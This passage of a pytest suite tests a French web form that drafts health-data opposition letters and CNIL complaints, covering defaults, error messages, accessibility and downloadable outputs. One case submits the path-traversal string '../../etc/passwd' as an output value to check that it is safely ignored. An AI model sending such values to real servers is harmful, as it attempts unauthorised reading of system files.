"""The form, from the first visit to the last byte: defaults, errors, answers kept, outputs.

Sentences are written out here as a person reads them, no-break spaces included: `~` stands for
U+00A0. Nothing that a stranger types is a reason for a crash, for markup, or for a number of
social security to come back.
"""

import ast
import re
import unicodedata
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, date, datetime, tzinfo
from itertools import product
from pathlib import Path
from typing import Any

import pdfplumber
import pytest
from bs4 import BeautifulSoup, Tag
from flask import Flask
from hypothesis import given, settings
from hypothesis import strategies as st
from werkzeug.datastructures import MultiDict
from werkzeug.test import TestResponse

from letters.catalogue import Catalogue
from letters.model import CHANNELS, OUTCOMES, WHO
from letters.recipients import OFFICER, OTHER, Recipients, load_addressees, load_recipients
from letters.typography import long_date
from letters.web import content, fields, forms, questions
from letters.web.content import load_content
from letters.web.fields import Choice, Listed, LongText, Text
from letters.web.forms import Context, FollowUpForm, LetterForm
from letters.web.settings import Settings
from tests.conftest import TODAY
from tests.test_pages import (
    CATALOGUE,
    ERROR_PREFIX,
    FORM,
    LATER,
    LEO,
    OPPOSITIONS,
    OUTPUTS,
    PERSON,
    SENT,
    SLUGS,
    SPEAKING,
    STATES,
    WHOSE,
    CheckingClient,
    answers_of,
    checking,
    heading_of,
    parse,
    text_of,
    title_of,
)

SANTE, PLATEFORME, SOIGNANT, INFORMATION, RELANCE, PLAINTE = SLUGS
LINES = (
    "given_name",
    "family_name",
    "represented_given_name",
    "represented_family_name",
    "represented_birth_date",
    "measure",
    "sent_on",
    "answer_on",
    "followed_up_on",
    "birth_date",
    "address_line1",
    "address_line2",
    "postal_code",
    "city",
    "country",
    "email",
)
AREAS = ("recipient_lines", "plateforme_lines", "cnil_lines", "missing", "reason")
NEVER_SHOWN = ("carried_lines", "shown_lines")  # only ever hidden
TEXTS = LINES + AREAS
NAMES = ("given_name", "family_name", "represented_given_name", "represented_family_name")
CHOICES = ("who", "channel", "outcome")
LISTS = ("first_letter", "recipient")
FIELDS = {*TEXTS, *NEVER_SHOWN, *CHOICES, *LISTS, "options"}
OPTIONS = ("hebergement", "cnil", "deces", "limitation", "acces")
DEFAULTS = ("hebergement", "cnil")
OPTIONS_OF = {
    SANTE: OPTIONS,
    PLATEFORME: ("hebergement", "caisse", "deces", "acces"),
    SOIGNANT: ("logiciel", "deces"),
    INFORMATION: (),
    RELANCE: ("penal",),
    PLAINTE: (),
}
DEFAULTS_OF = dict.fromkeys(SLUGS, ()) | {SANTE: DEFAULTS, PLATEFORME: ("hebergement",)}
EVERY_OPTION = sorted({option for options in OPTIONS_OF.values() for option in options})

# What the form of each letter shows beside its options, whatever the person answers.
EVERYONE = {"who", "given_name", "family_name", *LEO, "measure", "email"}
EVERYONE |= {"address_line1", "address_line2", "postal_code", "city", "country"}
BORN = {"birth_date", "represented_birth_date"}
EARLIER = {"first_letter", "sent_on", "recipient", "recipient_lines", "plateforme_lines"}
CAME_OF_IT = {"channel", "outcome", "answer_on", "missing"}
HISTORY = {"answer_on", "followed_up_on", "missing"}  # what is typed about an earlier letter
PRINTED = {
    SANTE: EVERYONE | BORN | {"recipient", "recipient_lines", "reason"},
    PLATEFORME: EVERYONE | {"plateforme_lines", "reason"},
    SOIGNANT: EVERYONE | BORN | {"recipient_lines", "reason"},
    INFORMATION: EVERYONE | EARLIER | {"cnil_lines"},
    RELANCE: EVERYONE | BORN | EARLIER | CAME_OF_IT,
    PLAINTE: EVERYONE | EARLIER | CAME_OF_IT | {"cnil_lines", "followed_up_on"},
}
# What holds the address that each letter of opposition goes to.
ADDRESSED = {
    SANTE: {"recipient", "recipient_lines"},
    PLATEFORME: {"plateforme_lines"},
    SOIGNANT: {"recipient_lines"},
}
ADDRESSES = {"recipient", "recipient_lines", "plateforme_lines"}

MAYOTTE = "01976"  # the one body without a known address
ADDRESS = "12 rue des Lilas\n29200 Brest"
FUND = "MSA d’Armorique\n3 rue Hervé de Guébriant\n29412 Landerneau Cedex"
CARER = "Cabinet de l’Exemple\n2 rue du Pont\n29200 Brest"
CNIL, PLATFORM = (tuple(body.lines) for body in load_addressees())
WHOLE = {
    **PERSON,
    "birth_date": "03/03/1958",
    "address_line1": "12 rue de l’Église",
    "address_line2": "Bâtiment B",
    "postal_code": "29200",
    "city": "Brest",
    "country": "",
    "email": "camille@example.org",
    "reason": "Première ligne.\r\n\r\nSeconde ligne.",
    "options": ["cnil", "deces"],
}
EVERYTHING = {
    **WHOLE,
    **WHOSE["protected"],
    "represented_birth_date": "03/03/2015",
    "first_letter": SANTE,
    **SENT,
    "channel": "post",
    "outcome": "partial",
    "answer_on": "20/10/2026",
    "missing": "La date d’effet.\r\nLe nom de qui a été prévenu.",
    "followed_up_on": "05/11/2026",
    "recipient_lines": "",
    "plateforme_lines": "Health Data Hub\r\n1 rue Neuve\r\n75015 PARIS",
    "cnil_lines": "CNIL\r\n2 place Neuve\r\n75007 PARIS",
}
bounded = settings(deadline=None, derandomize=True, database=None, max_examples=50)


def fr(sentence: str) -> str:
    return sentence.replace("~", "\u00a0")


def address_of(slug: str) -> str:
    return f"/fr/lettres/{slug}"


def asked(slug: str, who: str = "self", first: str = SANTE, outcome: str = "silence") -> set[str]:
    """What a letter uses, told a second time here."""
    names = PRINTED[slug] - ({"birth_date"} if who in {"child", "protected"} else set())
    names -= set() if who in {"child", "protected"} else {*LEO, "represented_birth_date"}
    names -= set() if who == "protected" else {"measure"}
    names -= {"answer_on"} if outcome == "silence" else set()
    names -= {"missing"} if outcome != "partial" else set()
    names -= BORN if slug == RELANCE and first == PLATEFORME else set()  # it knows no names
    return names - ((ADDRESSES - ADDRESSED[first]) if slug in SPEAKING else set())


def whole_of(slug: str, who: str = "self", first: str = SANTE) -> dict[str, Any]:
    """A right answer to everything that a letter asks, and no more."""
    every = everything(who, first)
    return {name: every[name] for name in asked(slug, who, first, "partial")}


def everything(who: str = "self", first: str = SANTE, **changes: Any) -> dict[str, Any]:
    """A right answer to everything that any letter may ask."""
    born = {"birth_date": "03/03/2010"} if who == "minor" else {}
    lines = {"recipient_lines": CARER.replace("\n", "\r\n")} if first == SOIGNANT else {}
    return {**EVERYTHING, "who": who, "first_letter": first, **born, **lines, **changes}


@pytest.fixture
def client(app: Flask) -> CheckingClient:
    return checking(app)


@pytest.fixture
def stranger(app: Flask) -> CheckingClient:
    """The same, on pages that show what was typed: its spaces are not ours."""
    return checking(app, own_words=False)


# Reading a page


def main_form(text: str) -> Tag:
    """The form of the letter; beside it there is one for the blank letter."""
    form = parse(text).select_one("main form[method=post]")
    assert form is not None
    return form


def shown(text: str) -> dict[str, Any]:
    """What the controls of the form hold, by name."""
    form = main_form(text)
    values: dict[str, Any] = {"options": []}
    for box in form.select("input:not([type=hidden])"):
        kind, name, value = box.get("type"), str(box["name"]), box.get("value", "")
        if kind == "checkbox":
            values["options"] += [value] if box.has_attr("checked") else []
        elif kind != "radio":
            values[name] = value
        elif box.has_attr("checked") or name not in values:
            values[name] = value if box.has_attr("checked") else ""
    for area in form.select("textarea"):
        values[str(area["name"])] = area.get_text().removeprefix("\n")
    for choice in form.select("select"):
        chosen = choice.select("option[selected]") or choice.select("option")[:1]
        assert len(chosen) == 1
        values[str(choice["name"])] = chosen[0]["value"]
    return values


def carried(text: str) -> "MultiDict[str, str]":
    """What the hidden fields of the form hold."""
    fields = main_form(text).select("input[type=hidden]")
    return MultiDict((str(field["name"]), str(field["value"])) for field in fields)


def posted(text: str, **changes: str) -> "MultiDict[str, str]":
    """What a browser posts from the form of a page, with line ends as it sends them."""
    values = carried(text)
    for control in main_form(text).select("input:not([type=hidden]), textarea[name], select"):
        name, value = str(control["name"]), control.get("value", "")
        ticked = control.get("type") not in {"checkbox", "radio"} or control.has_attr("checked")
        if control.name == "textarea":
            value = control.get_text().removeprefix("\n")
        elif control.name == "select":
            options = control.select("option[selected]") or control.select("option")
            value = options[0]["value"]
        if ticked:
            values.add(name, str(value))
    for name, value in changes.items():
        values[name] = value
    ends = re.compile("\r?\n")
    return MultiDict((name, ends.sub("\r\n", value)) for name, value in values.items(multi=True))


def area_of(text: str, identifier: str) -> str:
    area = parse(text).find("textarea", id=identifier)
    assert isinstance(area, Tag)
    return area.get_text().removeprefix("\n")


def letter_of(text: str) -> list[str]:
    return [text_of(tag) for tag in parse(text).select("article#letter :is(p, li, h2)")]


def recipient_of(text: str) -> list[str]:
    return [text_of(line) for line in parse(text).select("article#letter .recipient p")]


def sentences(page: BeautifulSoup) -> dict[str, str]:
    """The message beside each field in error, by the field's id."""
    messages = page.select("main form .error")
    return {
        str(message["id"]).removesuffix("-error"): text_of(message).removeprefix(ERROR_PREFIX)
        for message in messages
    }


def check_errors(response: TestResponse) -> dict[str, str]:
    """Check all that a page with errors owes to the person, and give its messages."""
    page = parse(response.text)
    found = sentences(page)
    assert response.status_code == 422
    assert response.content_type == "text/html; charset=utf-8"
    assert found
    assert title_of(page).startswith(ERROR_PREFIX + heading_of(page))
    check_summary(page, found)
    for name in found:
        control = page.find(id=name)
        assert isinstance(control, Tag)
        hint = [f"{name}-hint"] if page.find(id=f"{name}-hint") else []  # it stays
        assert str(control["aria-describedby"]).split() == [*hint, f"{name}-error"]
        assert control.name == "fieldset" or control["aria-invalid"] == "true"
    groups = page.select("fieldset.in-error")  # a question with radio buttons
    assert len(page.select("[aria-invalid]")) + len(groups) == len(found)
    return found


def check_summary(page: BeautifulSoup, found: dict[str, str]) -> None:
    main = page.find("main")
    assert main is not None
    summary = main.find(True)
    assert summary is not None
    assert "error-summary" in summary["class"]
    assert summary["role"] == "alert"
    assert summary["tabindex"] == "-1"
    assert summary.has_attr("autofocus")
    assert text_of(summary.find("h2")) == "Il y a un problème"
    entries = summary.find_all("li")
    assert len(entries) == len(found)
    for name, entry in zip(found, entries, strict=True):  # in the order of the form
        link = entry.find("a")
        assert link is not None
        control = page.find(id=str(link["href"]).removeprefix("#"))
        assert isinstance(control, Tag)
        assert control["name"] == name
        label = page.select_one(f"label[for={name}], fieldset#{name} > legend")
        assert text_of(link) == found[name]  # the very words beside the field
        assert text_of(entry) == f"{text_of(label).removesuffix(' (facultatif)')} – {found[name]}"


# The first visit


def forms_of(answers: dict[str, Any] | None = None) -> Iterator[tuple[str, LetterForm]]:
    """The form of every letter, with answers or as on a first visit."""
    loaded = load_content(Settings())
    for slug, wording in loaded.catalogue.wordings.items():
        data = None if answers is None else MultiDict(answers)
        yield slug, LetterForm(Context(wording, loaded, TODAY), data)


def test_no_field_is_forgotten_here(catalogue: Catalogue) -> None:
    form = next(form for _, form in forms_of())
    kinds = {field.name: type(field) for field in form}
    assert set(kinds) == FIELDS
    assert {name for name, kind in kinds.items() if issubclass(kind, Text)} == {
        *TEXTS,
        *NEVER_SHOWN,
    }
    assert {name for name, kind in kinds.items() if kind is LongText} == {*AREAS, *NEVER_SHOWN}
    assert {name for name, kind in kinds.items() if kind is Choice} == set(CHOICES)
    assert {name for name, kind in kinds.items() if kind is Listed} == set(LISTS)
    for slug, wording in catalogue.wordings.items():
        assert tuple(option.name for option in wording.options) == OPTIONS_OF[slug]
        assert wording.default_options == set(DEFAULTS_OF[slug])


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.rule(14)
def test_a_form_shows_the_fields_that_its_letter_may_use_and_no_other(
    client: CheckingClient, slug: str
) -> None:
    values = shown(client.get(address_of(slug)).text)
    assert set(values) == PRINTED[slug] | {"options"}
    boxes = main_form(client.get(address_of(slug)).text).select("[type=checkbox]")
    assert tuple(str(box["value"]) for box in boxes) == OPTIONS_OF[slug]


def test_what_is_asked_is_what_the_table_says_and_is_always_on_the_page() -> None:
    tried = 0
    for who, outcome, first in product(WHO, OUTCOMES, OPPOSITIONS):
        answers = {"who": who, "outcome": outcome, "first_letter": first}
        for slug, form in forms_of(answers):
            assert form.asked == asked(slug, who, first, outcome) | {"options"}
            assert form.asked <= form.printed == PRINTED[slug] | {"options"}
            tried += 1
    assert tried == 6 * 4 * 3 * 3


@pytest.mark.parametrize("slug", SLUGS)
def test_a_first_visit_shows_an_empty_form_with_the_defaults_ticked(
    client: CheckingClient, slug: str
) -> None:
    values = shown(client.get(address_of(slug)).text)
    expected = dict.fromkeys(PRINTED[slug], "") | {"who": "self", "options": [*DEFAULTS_OF[slug]]}
    expected |= {"first_letter": SANTE} if slug in SPEAKING else {}
    expected |= {"outcome": "silence"} if slug in LATER else {}
    known = {"cnil_lines": CNIL, "plateforme_lines": PLATFORM}
    for name, lines in known.items():
        if name in asked(slug):
            expected[name] = "\n".join(lines)
    assert values == expected


@pytest.mark.parametrize("slug", SLUGS)
def test_a_first_visit_says_nothing_of_errors(client: CheckingClient, slug: str) -> None:
    page = parse(client.get(address_of(slug)).text)
    assert page.select(".error-summary, .error, .in-error, [aria-invalid], [role=alert]") == []
    assert not title_of(page).startswith("Erreur")


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.parametrize(
    "query", ["given_name=Zoe", "options=acces&output=pdf", "recipient=01751&sent_on=2026-01-01"]
)
def test_an_address_never_fills_the_form(client: CheckingClient, slug: str, query: str) -> None:
    path = address_of(slug)
    assert client.get(f"{path}?{query}").text == client.get(path).text


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.rule(7, 14)
def test_only_the_starred_fields_are_required_and_the_others_say_so(
    client: CheckingClient, slug: str
) -> None:
    page = parse(client.get(address_of(slug)).text)
    form = main_form(client.get(address_of(slug)).text)
    required = {str(tag["name"]) for tag in form.select("[required]")}
    wanted = {"given_name", "family_name", *LEO, "measure", "first_letter", "recipient"}
    wanted |= {"sent_on"} if slug in LATER else set()
    assert required == wanted & PRINTED[slug]
    for name in PRINTED[slug]:
        label = text_of(page.select_one(f"label[for={name}], fieldset#{name} > legend"))
        optional = name not in {*required, "who", "outcome"}
        assert label.endswith("(facultatif)") == optional, name
    assert "Tous les champs sont obligatoires sauf ceux marqués (facultatif)." in text_of(page.main)


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.rule(7)
def test_the_server_is_the_only_judge(client: CheckingClient, slug: str) -> None:
    form = main_form(client.get(address_of(slug)).text)
    assert form.has_attr("novalidate")
    assert form["action"] == address_of(slug)
    assert form.select("[pattern], [maxlength], [minlength], [min], [max]") == []


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.rule(14)
def test_every_field_says_why_it_is_asked(client: CheckingClient, slug: str) -> None:
    page = parse(client.get(address_of(slug)).text)
    options = (f"options-{option}" for option in OPTIONS_OF[slug])
    for name in [*(PRINTED[slug] - {*CHOICES}), *options]:
        control = page.find(id=name)
        assert isinstance(control, Tag), name
        hint = page.find(id=f"{name}-hint")
        assert control.get("aria-describedby") == (f"{name}-hint" if hint else None)
        group = page.select_one(f"fieldset:has(#{name}) > p")  # one reason for all of it
        if name == "first_letter":
            assert text_of(page.select_one(f"fieldset:has(#{name}) > legend")).startswith(
                "La lettre"
            )
        else:
            assert text_of(hint or group).endswith("."), name


@pytest.mark.parametrize("slug", SLUGS)
def test_what_only_some_answers_need_says_when(client: CheckingClient, slug: str) -> None:
    """Without a style sheet, every section is there and has to make sense."""
    page = parse(client.get(address_of(slug)).text)
    for name in LEO:
        section = page.select_one(f"fieldset:has(#{name})")
        assert fr("seulement pour votre enfant de moins de 15~ans") in text_of(section)
        assert "majeur protégé" in text_of(section)


@pytest.mark.parametrize(
    ("name", "attribute", "value"),
    [
        ("given_name", "autocomplete", "given-name"),
        ("family_name", "autocomplete", "family-name"),
        ("birth_date", "autocomplete", "bday"),
        ("address_line1", "autocomplete", "address-line1"),
        ("address_line2", "autocomplete", "address-line2"),
        ("postal_code", "autocomplete", "postal-code"),
        ("city", "autocomplete", "address-level2"),
        ("country", "autocomplete", "country-name"),
        ("email", "autocomplete", "email"),
        ("represented_given_name", "autocomplete", "off"),  # the browser knows another person
        ("represented_family_name", "autocomplete", "off"),
        ("represented_birth_date", "autocomplete", "off"),
        ("measure", "autocomplete", "off"),
        ("email", "type", "email"),
        ("given_name", "spellcheck", "false"),
        ("family_name", "spellcheck", "false"),
        ("email", "spellcheck", "false"),
    ],
)
@pytest.mark.rule(11)
def test_browsers_can_help_to_fill_in(
    client: CheckingClient, name: str, attribute: str, value: str
) -> None:
    control = parse(client.get(FORM).text).find(id=name)
    assert isinstance(control, Tag)
    assert control[attribute] == value


@pytest.mark.parametrize("who", ["self", "child"])
@pytest.mark.parametrize("slug", SLUGS)
def test_each_option_shows_its_paragraph_folded(
    client: CheckingClient, catalogue: Catalogue, slug: str, who: str
) -> None:
    answers, wording = answers_of(who), catalogue.wordings[slug]
    page = parse(client.post(address_of(slug), data={**answers, "output": "edit"}).text)
    folded = page.select("details.paragraph-shown")
    for details, option in zip(folded, wording.options, strict=True):
        assert text_of(details.find("summary")).endswith(option.label)
        result = client.post(address_of(slug), data={**answers, "options": option.name})
        letter = "\n".join(letter_of(result.text))
        assert details.find_all("p")
        for paragraph in details.find_all("p"):
            assert re.search(re.escape(text_of(paragraph)).replace("…", ".+"), letter), option.name


def test_one_list_holds_every_body_by_department_and_the_way_out(
    client: CheckingClient, recipients: Recipients
) -> None:
    choice = parse(client.get(FORM).text).find(id="recipient")
    assert isinstance(choice, Tag)
    codes = [str(option["value"]) for option in choice.find_all("option")]
    assert codes == ["", *(body.code for body in recipients), OTHER]
    groups = {str(group["label"]): group for group in choice.find_all("optgroup")}
    assert list(groups) == ["Par département", "Autres régimes"]
    for body in recipients:
        group = groups["Par département" if body.department else "Autres régimes"]
        option = group.find("option", value=body.code)
        assert isinstance(option, Tag)
        # A number is what people know, and what a keyboard finds.
        start = f"{body.department} " if body.department else ""
        assert text_of(option).startswith(start)
        assert body.name in text_of(option)
    assert [text_of(option) for option in choice.find_all("option", value=OTHER)] == [
        fr("Autre organisme~: j’écris son adresse")
    ]


def test_bodies_that_share_a_department_are_told_apart_by_the_card_s_digits(
    client: CheckingClient, recipients: Recipients
) -> None:
    page = parse(client.get(FORM).text)
    explained = text_of(page.select_one("#a-qui details:not(#adresse)"))
    several = [bodies for key, bodies in recipients.by_department() if key and len(bodies) > 1]
    assert sorted(bodies[0].department for bodies in several) == ["59", "62", "64", "76"]
    for body in (body for bodies in several for body in bodies):
        option = page.find("option", value=body.code)
        label = text_of(option if isinstance(option, Tag) else None)
        assert label == f"{body.department} ({body.code[2:]}) – {body.department_name}, {body.name}"
        assert f"{body.code[2:]} – {body.name}" in explained


# Outputs


def post(
    client: CheckingClient, output: str | None = None, slug: str = SANTE, **answers: Any
) -> TestResponse:
    data = {**PERSON, **answers}
    return client.post(
        address_of(slug), data=data if output is None else {**data, "output": output}
    )


HTML = ("text/html; charset=utf-8", None)


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.parametrize(
    ("output", "kind", "name"),
    [
        (None, *HTML),
        ("preview", *HTML),
        ("edit", *HTML),
        ("", *HTML),
        ("PDF", *HTML),
        ("../../etc/passwd", *HTML),
        ("text", "text/plain; charset=utf-8", "{}.txt"),
        ("short", "text/plain; charset=utf-8", "{}-version-courte.txt"),
        ("pdf", "application/pdf", "{}.pdf"),
        ("slip", "application/pdf", "{}-a-dire.pdf"),
        ("calendar", "text/calendar; charset=utf-8", "rappel.ics"),
        ("bundle", "application/zip", "lettres.zip"),
    ],
)
def test_each_output_has_its_type_and_a_name_without_personal_data(
    client: CheckingClient, slug: str, output: str | None, kind: str, name: str | None
) -> None:
    if (output == "slip" and slug != SOIGNANT) or (output == "calendar" and slug == PLAINTE):
        kind, name = HTML  # there is nothing to say aloud, or to wait for
    answers = answers_of("child", city="Brest", email="camille@example.org")
    response = client.post(address_of(slug), data=answers | ({"output": output} if output else {}))
    expected = f'attachment; filename="{name.format(slug)}"' if name else None
    assert response.status_code == 200
    assert response.content_type == kind
    assert response.headers.get("Content-Disposition") == expected


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.parametrize("output", [None, "", "PDF", "apercu", "preview\x00", "édit"])
def test_an_unknown_output_is_the_preview(
    client: CheckingClient, slug: str, output: str | None
) -> None:
    response = post(client, output, slug, **SENT)
    assert response.data == post(client, "preview", slug, **SENT).data
    assert heading_of(parse(response.text)) == "Votre lettre est prête"


@pytest.mark.parametrize(("output", "area"), [("text", "message"), ("short", "message-short")])
@pytest.mark.parametrize("slug", SLUGS)
def test_a_text_starts_with_its_subject_then_holds_the_message_shown(
    client: CheckingClient, slug: str, output: str, area: str
) -> None:
    answers = everything(options=list(OPTIONS_OF[slug]))
    preview = post(client, "preview", slug, **answers).text
    first, empty, body = post(client, output, slug, **answers).data.decode().split("\n", 2)
    assert first == f"Objet : {area_of(preview, 'subject')}"
    assert empty == ""
    assert body == area_of(preview, area) + "\n"
    assert body.startswith("Madame, Monsieur,\n\n")
    assert body.endswith("\n\nCamille Durand\n")


@pytest.mark.parametrize("slug", SLUGS)
def test_the_texts_hold_no_character_that_an_old_form_breaks(
    client: CheckingClient, slug: str
) -> None:
    for output in ("text", "short"):
        answers = everything("child", options=list(OPTIONS_OF[slug]))
        text = post(client, output, slug, **answers).data.decode()
        assert not set(text) & set("’‘“”–—…\u00a0\u202f\r\t")
        assert text.encode("cp1252")


@pytest.mark.parametrize("who", WHO)
@pytest.mark.parametrize("slug", SLUGS)
def test_the_number_of_characters_is_shown_and_the_short_version_is_short(
    client: CheckingClient, slug: str, who: str
) -> None:
    text = post(client, "preview", slug, **everything(who, options=list(OPTIONS_OF[slug]))).text
    hints = [text_of(hint) for hint in parse(text).select(".copied .hint")]
    wanted = [len(area_of(text, name)) for name in ("message", "message-short")]
    numbers = [f"{number:,}".replace(",", "\u202f") for number in wanted]
    assert hints == [f"{number} caractères, espaces compris." for number in numbers]
    assert wanted[1] < min(1000, wanted[0])


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.rule(15, 17)
def test_the_letter_is_an_article_in_french_before_anything_is_downloaded(
    client: CheckingClient, slug: str
) -> None:
    page = parse(post(client, slug=slug, **SENT).text)
    article = page.select_one("main article#letter")
    assert article is not None
    assert article["lang"] == "fr"
    assert article.parent is not None
    assert article.parent["aria-label"]
    assert "Rien n’est encore envoyé." in text_of(page.main)
    first = page.select_one("button[value=pdf]")
    assert isinstance(first, Tag)
    assert article in first.find_all_previous("article")


@pytest.mark.parametrize("slug", SLUGS)
def test_what_the_letter_does_not_obtain_is_read_before_it_is_downloaded(
    client: CheckingClient, catalogue: Catalogue, slug: str
) -> None:
    page = parse(post(client, slug=slug, **SENT).text)
    limits = page.select_one("main ul.limits")
    first = page.select_one("button[value=text]")
    assert limits is not None
    assert isinstance(first, Tag)
    shown_limits = tuple(text_of(limit) for limit in limits.find_all("li"))
    assert shown_limits == catalogue.wordings[slug].limits
    assert limits in first.find_all_previous("ul")


def test_the_sentences_to_say_aloud_are_on_the_page_of_the_letter_to_a_carer(
    client: CheckingClient,
) -> None:
    for slug in SLUGS:
        page = parse(post(client, slug=slug, **SENT, **WHOSE["child"]).text)
        said = [text_of(sentence) for sentence in page.select(".slip p")]
        assert len(said) == (4 if slug == SOIGNANT else 0)  # the last is the name
        assert len(page.select("button[value=slip]")) == (slug == SOIGNANT)
        if said:
            assert "Léo Martin" in said[0]
            assert said[-1] == "Camille Durand"


def test_what_an_option_asks_for_afterwards_is_said_when_it_is_ticked(
    client: CheckingClient, catalogue: Catalogue
) -> None:
    told = 0
    for slug, wording in catalogue.wordings.items():
        for option in (option for option in wording.options if option.after):
            ticked, not_ticked = (
                text_of(parse(post(client, slug=slug, options=names).text).main)
                for names in ([option.name], [])
            )
            assert option.after in ticked
            assert option.after not in not_ticked
            told += 1
    assert told == 2


@pytest.mark.rule(18, 19)
def test_the_texts_to_copy_are_read_only_and_the_buttons_hidden_without_a_script(
    client: CheckingClient,
) -> None:
    page = parse(post(client).text)
    for name in ("subject", "message", "message-short"):
        area = page.find("textarea", id=name)
        assert isinstance(area, Tag)
        assert area.has_attr("readonly")
        assert area.get("name") is None, "it is not posted back"
        button = page.select_one(f"button[data-copy={name}]")
        assert button is not None
        assert button.has_attr("hidden")
        assert button["type"] == "button"
        status = button.find_next_sibling("span")
        assert isinstance(status, Tag)
        assert status["role"] == "status"


@pytest.mark.parametrize("slug", SLUGS)
def test_every_button_of_the_two_pages_asks_for_a_known_output(
    client: CheckingClient, slug: str
) -> None:
    """The first button of a form is the one that the Enter key presses; nobody sees it."""
    edit = ["edit"] if "recipient" in PRINTED[slug] else []
    no_fund = ["edit"] if slug == SANTE else []  # the letter to the platform
    to_keep = ["text", "short", "pdf", *(["slip"] if slug == SOIGNANT else [])]
    waits = [] if slug in {INFORMATION, PLAINTE} else ["calendar"]
    others = ["edit"] * (len(SLUGS) - 1)
    finished = "calendar" if slug in OPPOSITIONS else "preview"  # where one can type a day
    for enter, text, wanted in (
        ("preview", client.get(address_of(slug)).text, [*edit, *no_fund, "preview", "preview"]),
        (
            finished,
            post(client, slug=slug, **SENT).text,
            ["edit", *to_keep, *waits, *others, "bundle"],
        ),
    ):
        assert first_button(text)["value"] == enter
        buttons = main_form(text).select("button[name]")
        assert {str(button["name"]) for button in buttons} == {"output"}
        assert [str(button["value"]) for button in buttons] == wanted
        assert set(wanted) <= set(OUTPUTS)


def first_button(text: str) -> Tag:
    """What Enter presses: the first button of the form, which may stand outside of it."""
    page = parse(text)
    first = page.select_one("button[form=answers], form#answers button")
    assert first is not None
    assert first.find_previous("button") is None
    return first


@pytest.mark.parametrize("slug", SLUGS)
def test_the_enter_key_in_a_field_shows_the_letter(client: CheckingClient, slug: str) -> None:
    """A browser submits a form on Enter with its first button, wherever that one stands."""
    assert first_button(client.get(address_of(slug)).text)["value"] == "preview"


@pytest.mark.parametrize("slug", SLUGS)
def test_the_enter_key_on_the_result_page_is_answered(client: CheckingClient, slug: str) -> None:
    text = post(client, slug=slug, **SENT).text
    output = str(first_button(text)["value"])
    response = client.post(address_of(slug), data=posted(text, output=output))
    assert response.status_code == 200


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.rule(22)
def test_the_pdf_is_announced_with_its_size(client: CheckingClient, slug: str) -> None:
    """Rule 22 of forms.md; « environ » is a third more or less."""
    hint = re.search(
        r"PDF, 1 ou 2 pages, environ (\d+)\s?Ko",
        text_of(parse(post(client, slug=slug, **SENT).text).main),
    )
    assert hint is not None
    for answers in (SENT, everything(options=list(OPTIONS_OF[slug]))):
        size = len(post(client, "pdf", slug, **answers).data) / 1000
        assert size / 1.5 < int(hint[1]) < size * 1.5, f"{size:.0f} Ko"


@pytest.mark.rule(17)
@pytest.mark.parametrize("slug", SLUGS)
def test_the_result_gives_numbered_steps_and_what_comes_after(
    client: CheckingClient, slug: str
) -> None:
    page = parse(post(client, slug=slug, **SENT).text)
    assert len(page.select("#en-ligne ol.steps > li")) >= 2
    assert len(page.select("#poste ol.steps > li")) >= 4
    assert "Gardez une copie" in text_of(page.select_one("#poste"))
    after = text_of(page.select_one("#apres"))
    wanted = {INFORMATION: "n’attend pas de réponse", PLAINTE: "numéro de dossier"}
    wanted |= {RELANCE: "La plainte à la CNIL"} | dict.fromkeys(OPPOSITIONS, "un mois a passé")
    assert wanted[slug] in after


def test_what_an_option_asks_for_is_said_before_the_ways_to_send(client: CheckingClient) -> None:
    text = text_of(parse(post(client, options="cnil").text).main)
    assert 0 < text.index("Dire que vous informez la CNIL") < text.index("En ligne, par la")


@pytest.mark.rule(17)
def test_the_result_says_by_when_an_answer_is_due(client: CheckingClient) -> None:
    assert fr("le 21~décembre 2026") in text_of(parse(post(client).text).main)


def test_letters_that_an_old_form_may_break_are_named(client: CheckingClient) -> None:
    named = fr("Ces lettres peuvent mal passer dans une messagerie~: ğ ş.")
    assert named in text_of(parse(post(client, given_name="Tuğba Başak").text).main)
    assert "mal passer" not in post(client, given_name="Éloïse Œdipe").text


# Who writes


@pytest.mark.parametrize(
    ("answers", "lines"),
    [
        (
            {},
            ["Camille Durand", fr("Adresse~:"), "", fr("Date de naissance~:")],
        ),
        (
            {"city": "Brest"},
            ["Camille Durand", "Brest", fr("Date de naissance~:")],
        ),
        (
            {"address_line1": "3 rue Kinga", "postal_code": "97600", "city": "Mamoudzou"},
            ["Camille Durand", "3 rue Kinga", "97600 Mamoudzou", fr("Date de naissance~:")],
        ),
        (
            {"postal_code": "98714", "city": "Papeete", "country": "Polynésie française"},
            ["Camille Durand", "98714 Papeete", "Polynésie française", fr("Date de naissance~:")],
        ),
        (
            {"postal_code": "B-1000", "city": "Bruxelles", "country": "Belgique"},
            ["Camille Durand", "B-1000 Bruxelles", "Belgique", fr("Date de naissance~:")],
        ),
        (
            {"postal_code": "SW1A 1AA", "city": "Londres", "country": "Royaume-Uni"},
            ["Camille Durand", "SW1A 1AA Londres", "Royaume-Uni", fr("Date de naissance~:")],
        ),
        (
            {"address_line2": "Bâtiment B", "email": "c@example.org", "birth_date": "1958-03-03"},
            [
                "Camille Durand",
                "Bâtiment B",
                fr("Code postal et ville~:"),
                "c@example.org",
                fr("Date de naissance~: 03/03/1958"),
            ],
        ),
    ],
)
@pytest.mark.rule(14)
def test_the_sender_is_printed_and_what_is_missing_becomes_dots(
    client: CheckingClient, answers: dict[str, str], lines: list[str]
) -> None:
    page = parse(post(client, **answers).text)
    sender = page.select("article#letter .sender > *")
    assert [text_of(line) for line in sender] == [*lines, fr("N°~de sécurité sociale~:")]
    for line in sender:
        text = text_of(line)
        assert bool(line.select(".dots")) == (text == "" or text.endswith(fr("~:")))


@pytest.mark.parametrize(
    "typed",
    [
        "03/03/1958",
        "3/3/1958",
        "1958-03-03",
        "03.03.1958",
        "03-03-1958",
        "03 03 1958",
        "03\u00a003\u202f1958",
        " 03 / 03 / 1958 ",
        "1958/3/3",
    ],
)
@pytest.mark.rule(13)
def test_a_birth_date_is_read_in_every_usual_shape(client: CheckingClient, typed: str) -> None:
